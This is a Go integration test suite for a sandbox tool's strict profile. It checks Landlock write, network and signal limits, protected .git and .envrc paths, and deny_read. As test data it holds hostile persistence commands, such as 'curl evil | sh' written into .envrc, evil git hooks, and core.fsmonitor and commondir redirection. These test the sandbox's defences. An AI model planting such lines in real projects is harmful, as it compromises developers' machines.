//go:build integration

package integration

// The strict profile's filesystem (issue 11): Landlock's writable paths,
// --require-strict, protected paths and deny_read.

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/devbox-dev/devbox/internal/strict"
	"github.com/devbox-dev/devbox/internal/testutil"
)

// requireLandlock skips where the kernel cannot enforce the strict
// profile's rules.
func requireLandlock(t *testing.T) {
	t.Helper()
	if abi := strict.ABI(); abi < strict.FullABI {
		testutil.Skip(t, "this kernel's Landlock ABI is %d; the strict profile's rules need %d", abi, strict.FullABI)
	}
}

// TestStrict_LandlockLimitsWrites: a strict session writes the project,
// its home, /tmp, /var/tmp and its terminal, and nothing else, even where
// the mount is writable: a root session cannot write /run or /dev, which
// a default root session can.
func TestStrict_LandlockLimitsWrites(t *testing.T) {
	t.Parallel()
	requireLandlock(t)
	e := strictEnv(t, "user = \"root\"\n")
	out := e.sh(`for p in "$PWD/f" "$HOME/f" /tmp/f /var/tmp/f /dev/shm/f; do echo x > "$p" && echo "ok $p"; done; echo x > /dev/null && echo ok null`)
	for _, p := range []string{e.project + "/f", "/tmp/f", "/var/tmp/f", "/dev/shm/f", "null"} {
		if !strings.Contains(out, "ok "+p+"\n") {
			t.Errorf("a strict session could not write %s:\n%s", p, out)
		}
	}
	if n := strings.Count(out, "ok "); n != 6 {
		t.Errorf("a strict session wrote %d of the 6 writable places (project, home, /tmp, /var/tmp, /dev/shm, /dev/null):\n%s", n, out)
	}
	if b, err := os.ReadFile(filepath.Join(e.project, "f")); err != nil || string(b) != "x\n" {
		t.Errorf("project file after the session: %q, %v", b, err)
	}
	for _, p := range []string{"/run/f", "/dev/f", "/dev/mqueue/f"} {
		r := e.run("run", "--", "sh", "-c", "echo x > "+p)
		if r.code == 0 || !strings.Contains(r.stderr, "ermission denied") {
			t.Errorf("a strict root session wrote %s: %s", p, r)
		}
	}
	d := newEnv(t)
	d.writeConfig("user = \"root\"\n")
	d.sh("echo x > /run/f")
}

// TestStrict_TCPConnectOnlyToProxy: with Landlock ABI 4, a strict session
// connects only to the proxy's port; a server inside on another port
// listens but cannot be reached.
func TestStrict_TCPConnectOnlyToProxy(t *testing.T) {
	t.Parallel()
	requireLandlock(t)
	e := strictEnv(t, "")
	requireTool(t, e, "python3")
	out := e.sh(`python3 -c '
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
c = socket.socket()
try:
    c.connect(s.getsockname()); print("connected")
except OSError as e:
    print("refused", e.errno)
p = socket.socket()
p.connect(("127.0.0.1", 3128)); print("proxy ok")
'`)
	if !strings.Contains(out, "refused 13") || !strings.Contains(out, "proxy ok") {
		t.Errorf("want the connect to the session's own server refused (EACCES) and the proxy reached:\n%s", out)
	}
}

// TestStrict_SignalsScopedToSession: with Landlock ABI 6, a session
// cannot signal a process outside its Landlock domain, even of its own
// uid: the session that started the sandbox is a domain of its own (its
// stage's); a later one, forked by the session spawner or started through
// a stage, is in another.
func TestStrict_SignalsScopedToSession(t *testing.T) {
	t.Parallel()
	requireLandlock(t)
	e := strictEnv(t, "")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	bg := e.command(ctx, "run", "--", "sleep", "300")
	if err := bg.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { bg.Process.Kill(); bg.Wait() }()
	waitForInside(t, e, "sleep 300")
	out := e.sh(`kill -0 $(pgrep -f "^sleep 300") 2>&1; echo status=$?; sleep 1 & kill -0 $! && echo own=ok`)
	if strings.Contains(out, "status=0") || !strings.Contains(out, "own=ok") {
		t.Errorf("want another session's process out of reach and the own one signalled:\n%s", out)
	}
}

// TestStrict_RequireStrict: where the kernel enforces all of the strict
// profile, a strict sandbox starts silently, with --require-strict too;
// where it cannot (the test VM's 6.1 kernel has no Landlock), the start
// says what is not enforced, and --require-strict refuses it with exit
// 125. --require-strict with another profile is refused.
func TestStrict_RequireStrict(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "")
	r := e.run("run", "--require-strict", "--", "true")
	if abi := strict.ABI(); abi >= strict.FullABI {
		if r.code != 0 || strings.Contains(r.stderr, "not enforced") {
			t.Errorf("--require-strict on a kernel with Landlock ABI %d: %s", abi, r)
		}
	} else {
		if r.code != 125 || !strings.Contains(r.stderr, "require_strict is set") || !strings.Contains(r.stderr, "not enforced") {
			t.Errorf("--require-strict on a kernel with Landlock ABI %d: want exit 125 saying what is not enforced: %s", abi, r)
		}
		r = e.run("run", "--", "true")
		if r.code != 0 || !strings.Contains(r.stderr, "not enforced") {
			t.Errorf("strict on a kernel with Landlock ABI %d: want a start that says what is not enforced: %s", abi, r)
		}
	}
	d := newEnv(t)
	r = d.run("run", "--require-strict", "--", "true")
	if r.code != 125 || !strings.Contains(r.stderr, "security = \"strict\" only") {
		t.Errorf("--require-strict with the default profile: want exit 125 naming strict: %s", r)
	}
}

// gitProject makes e's project a git repository with one commit.
func gitProject(t *testing.T, e *env) {
	t.Helper()
	testutil.RequireBinary(t, "git")
	for _, args := range [][]string{
		{"init", "-q"},
		{"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "one"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = e.project
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

// TestStrict_ProtectedGitAndProjectWrite: .git is read-only as a whole,
// the rest of the project is writable.
func TestStrict_ProtectedGitAndProjectWrite(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "")
	gitProject(t, e)
	r := e.run("run", "--", "sh", "-c", "echo evil > .git/hooks/pre-commit")
	if r.code == 0 {
		t.Errorf("a strict session wrote .git/hooks/pre-commit: %s", r)
	}
	if _, err := os.Stat(filepath.Join(e.project, ".git/hooks/pre-commit")); err == nil {
		t.Error(".git/hooks/pre-commit exists on the host")
	}
	e.sh("echo ok > main.go && mkdir -p src && echo ok > src/a.go && mv src/a.go src/b.go")
	if b, err := os.ReadFile(filepath.Join(e.project, "src/b.go")); err != nil || string(b) != "ok\n" {
		t.Errorf("project write: %q, %v", b, err)
	}
}

// TestStrict_MissingProtectedNamesCannotBeCreated: a protected name that
// does not exist cannot be made directly, through a symlink, or by
// renaming a directory onto it; the protected paths cannot be renamed
// away either. The stubs that block them are gone once the sandbox ends.
func TestStrict_MissingProtectedNamesCannotBeCreated(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "protect = [\"ci/deploy.sh\"]\n")
	gitProject(t, e)
	attempts := []struct{ name, script, path string }{
		{"direct", "echo 'curl evil | sh' > .envrc", ".envrc"},
		{"mkdir", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"},
		{"symlink", "echo evil > /tmp/e && ln -s /tmp/e .envrc", ".envrc"},
		{"symlink in the project", "echo evil > e && ln -sf e .envrc", ".envrc"},
		{"rename of a directory", "mkdir -p d && echo '{}' > d/tasks.json && mv -T d .vscode", ".vscode/tasks.json"},
		{"rename of a file", "echo evil > f && mv -f f .envrc", ".envrc"},
		{"hard link", "echo evil > f && ln -f f .envrc", ".envrc"},
		{"rename the stub away", "mv .idea idea2 && mkdir .idea && echo x > .idea/workspace.xml", ".idea/workspace.xml"},
		{"rename .git away", "mv .git git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"remove .git", "rm -rf .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"user entry below a missing dir", "mkdir -p ci && echo evil > ci/deploy.sh", "ci/deploy.sh"},
		{"devcontainer", "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json", ".devcontainer/devcontainer.json"},
	}
	e.sh("echo ok > ok") // the sandbox starts, and writes the project
	for _, a := range attempts {
		e.run("run", "--", "sh", "-c", a.script)
		if b, err := os.ReadFile(filepath.Join(e.project, a.path)); err == nil {
			t.Errorf("%s: %s exists on the host: %q", a.name, a.path, b)
		}
	}
	if _, err := os.Stat(filepath.Join(e.project, ".git/HEAD")); err != nil {
		t.Errorf(".git was damaged: %v", err)
	}
	e.must("stop")
	for _, name := range []string{".envrc", ".vscode", ".idea", ".devcontainer", "ci/deploy.sh", "devbox.lock"} {
		if _, err := os.Lstat(filepath.Join(e.project, name)); err == nil {
			t.Errorf("%s is left in the project after the sandbox stopped", name)
		}
	}
}

// TestStrict_GitWritesKeepsControlFiles: with git_writes the code may
// commit, but not write hooks or git's configuration, nor redirect git to
// other hooks through .git/commondir (git 2.39 ran the redirected hook)
// or core.hooksPath's directory.
func TestStrict_GitWritesKeepsControlFiles(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "git_writes = true\n")
	// Loosening protection is a widening the trust record asks about.
	if r := e.run("run", "--", "true"); r.code != 125 || !strings.Contains(r.stderr, "git_writes: false -> true") {
		t.Errorf("git_writes = true before 'devbox trust': want exit 125 naming it: %s", r)
	}
	e.must("trust")
	gitProject(t, e)
	cfg := filepath.Join(e.project, ".git/config")
	f, err := os.OpenFile(cfg, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("[core]\n\thooksPath = githooks\n")
	f.Close()
	e.sh("echo a > a && git add a && git -c user.name=t -c user.email=t@t commit -q -m two")
	if out := e.sh("git log --oneline | wc -l"); strings.TrimSpace(out) != "2" {
		t.Errorf("git_writes: commits = %q, want 2", out)
	}
	attempts := []struct{ name, script, path string }{
		{"hook", "echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"config", "git config core.fsmonitor 'evil'", ""},
		{"commondir", "mkdir -p evil/hooks && echo ../evil > .git/commondir", ""},
		{"commondir by rename", "echo ../evil > c && mv -f c .git/commondir", ""},
		{"info", "echo '*' > .git/info/exclude2", ".git/info/exclude2"},
		{"hooks path", "mkdir -p githooks && echo evil > githooks/pre-commit", "githooks/pre-commit"},
		{"rename .git away", "mv .git g2", "g2"},
	}
	for _, a := range attempts {
		e.run("run", "--", "sh", "-c", a.script)
		if a.path != "" {
			if _, err := os.Stat(filepath.Join(e.project, a.path)); err == nil {
				t.Errorf("%s: %s exists on the host", a.name, a.path)
			}
		}
	}
	if b, _ := os.ReadFile(cfg); strings.Contains(string(b), "fsmonitor") {
		t.Errorf("config: .git/config was written:\n%s", b)
	}
	if b, err := os.ReadFile(filepath.Join(e.project, ".git/commondir")); err == nil && string(b) != ".\n" {
		t.Errorf("commondir: .git/commondir holds %q", b)
	}
	e.must("stop")
	if _, err := os.Lstat(filepath.Join(e.project, ".git/commondir")); err == nil {
		t.Error(".git/commondir is left after the sandbox stopped")
	}
	cmd := exec.Command("git", "status", "--short")
	cmd.Dir = e.project
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("git status on the host after the sandbox: %v\n%s", err, out)
	}
}

// TestStrict_DenyReadHidesHostPaths: deny_read hides a directory and a
// file of the host view.
func TestStrict_DenyReadHidesHostPaths(t *testing.T) {
	t.Parallel()
	if _, err := os.Stat("/etc/ssh"); err != nil {
		testutil.Skip(t, "the host has no /etc/ssh to hide: %v", err)
	}
	e := strictEnv(t, "deny_read = [\"/etc/ssh\", \"/etc/hostname\"]\n")
	out := e.sh("ls -A /etc/ssh | wc -l; cat /etc/hostname | wc -c; cat /etc/passwd >/dev/null && echo passwd-ok")
	if f := strings.Fields(out); len(f) != 3 || f[0] != "0" || f[1] != "0" || f[2] != "passwd-ok" {
		t.Errorf("want /etc/ssh empty, /etc/hostname empty and /etc/passwd readable, got %q", out)
	}
}

// TestStrict_ProtectedSymlink: a protected name that is a symlink stays
// that link, and its target in the project is protected too.
func TestStrict_ProtectedSymlink(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "")
	if err := os.WriteFile(filepath.Join(e.project, "envrc.real"), []byte("export A=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("envrc.real", filepath.Join(e.project, ".envrc")); err != nil {
		t.Fatal(err)
	}
	e.sh("echo ok > ok") // the sandbox starts, and writes the project
	for _, script := range []string{
		"echo evil > envrc.real",
		"echo evil > .envrc",
		"rm -f .envrc; echo evil > .envrc",
		"echo evil > x && mv -f x .envrc",
		"ln -sfn x .envrc",
	} {
		e.run("run", "--", "sh", "-c", script)
	}
	if l, err := os.Readlink(filepath.Join(e.project, ".envrc")); err != nil || l != "envrc.real" {
		t.Errorf(".envrc: %q, %v; want the link to envrc.real", l, err)
	}
	if b, _ := os.ReadFile(filepath.Join(e.project, "envrc.real")); string(b) != "export A=1\n" {
		t.Errorf("envrc.real: %q", b)
	}
}

// TestStrict_GitPointerFileProtected: a .git pointer file (a linked
// worktree's or a submodule's) names the git dir; with git_writes it stays
// read-only as one of git's control files.
func TestStrict_GitPointerFileProtected(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "git_writes = true\n")
	e.must("trust")
	pointer := filepath.Join(e.project, ".git")
	if err := os.WriteFile(pointer, []byte("gitdir: /nonexistent/worktrees/x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.sh("echo ok > ok")
	for _, script := range []string{"echo 'gitdir: evil' > .git", "mv .git g", "echo 'gitdir: evil' > g && mv -f g .git"} {
		e.run("run", "--", "sh", "-c", script)
	}
	if b, _ := os.ReadFile(pointer); string(b) != "gitdir: /nonexistent/worktrees/x\n" {
		t.Errorf(".git pointer file: %q", b)
	}
}

// TestStrict_LandlockInJoinedSelfSessions: the user = "self" sessions of
// a running strict sandbox (init's session spawner forks them) are in a
// Landlock domain too: /dev/mqueue, where any user may make a queue in the
// default profile, is refused; the project is writable.
func TestStrict_LandlockInJoinedSelfSessions(t *testing.T) {
	t.Parallel()
	requireLandlock(t)
	d := newEnv(t)
	d.sh("true")
	d.sh("touch /dev/mqueue/f")
	e := strictEnv(t, "")
	e.sh("true")
	for i := 0; i < 2; i++ {
		r := e.run("run", "--", "sh", "-c", "touch /dev/mqueue/f"+strconv.Itoa(i))
		if r.code == 0 || !strings.Contains(r.stderr, "ermission denied") {
			t.Errorf("join %d of a strict sandbox wrote /dev/mqueue: %s", i+1, r)
		}
		e.sh("echo ok > ok" + strconv.Itoa(i))
	}
}

// TestStrict_ReviewModeProtects: in review mode the project's existing
// protected paths are read-only in the overlay too, and a missing one
// gets no placeholder in the real project (the layer's writes reach it
// only through devbox apply, which skips protected paths).
func TestStrict_ReviewModeProtects(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "")
	gitProject(t, e)
	r := e.run("run", "--review", "--", "sh", "-c", "echo ok > ok; echo evil > .git/hooks/pre-commit")
	if r.code == 0 {
		t.Errorf("a strict review session wrote .git/hooks/pre-commit: %s", r)
	}
	if _, err := os.Lstat(filepath.Join(e.project, ".envrc")); err == nil {
		t.Error("review mode left a placeholder .envrc in the real project")
	}
	if _, err := os.Stat(filepath.Join(e.project, "ok")); err == nil {
		t.Error("review mode wrote the real project")
	}
}

// TestStrict_PlaceholdersLeftBySIGKILLAreRemoved: a supervisor killed
// with SIGKILL leaves the placeholders of missing protected names in the
// project; the next start removes them (else they would read as the
// user's own, and stay for good), and so does devbox stop of the dead
// sandbox, also when its runtime dir is gone, as after a reboot. A
// placeholder the user has since put a file in is the user's.
func TestStrict_PlaceholdersLeftBySIGKILLAreRemoved(t *testing.T) {
	t.Parallel()
	e := strictEnv(t, "")
	p := func(name string) string { return filepath.Join(e.project, name) }
	kill := func() string {
		t.Helper()
		sb := e.only()
		if err := syscall.Kill(sb.Supervisor, syscall.SIGKILL); err != nil {
			t.Fatalf("kill supervisor %d: %v", sb.Supervisor, err)
		}
		eventually(t, 10*time.Second, func() string {
			if syscall.Kill(sb.Init, 0) == nil {
				return "the sandbox's init outlived its supervisor"
			}
			return ""
		})
		return sb.Name
	}
	e.must("run", "--idle-timeout", "10m", "--", "true")
	kill()
	for _, name := range []string{".vscode", ".idea", ".envrc"} {
		if _, err := os.Lstat(p(name)); err != nil {
			t.Fatalf("no placeholder %s left after SIGKILL, which this test is about: %v", name, err)
		}
	}
	if err := os.WriteFile(p(".idea/workspace.xml"), []byte("the user's"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.must("run", "--idle-timeout", "10m", "--", "true")
	e.must("stop")
	for _, name := range []string{".vscode", ".envrc"} {
		if _, err := os.Lstat(p(name)); err == nil {
			t.Errorf("%s is left after a killed run, a new start and a stop", name)
		}
	}
	if b, err := os.ReadFile(p(".idea/workspace.xml")); err != nil || string(b) != "the user's" {
		t.Errorf("the user's file in a former placeholder: %q, %v", b, err)
	}

	e.must("run", "--idle-timeout", "10m", "--", "true")
	name := kill()
	if err := os.RemoveAll(e.stateDir(name)); err != nil {
		t.Fatal(err)
	}
	e.run("stop")
	for _, name := range []string{".vscode", ".envrc"} {
		if _, err := os.Lstat(p(name)); err == nil {
			t.Errorf("%s is left after a killed run and devbox stop without its runtime dir", name)
		}
	}
}
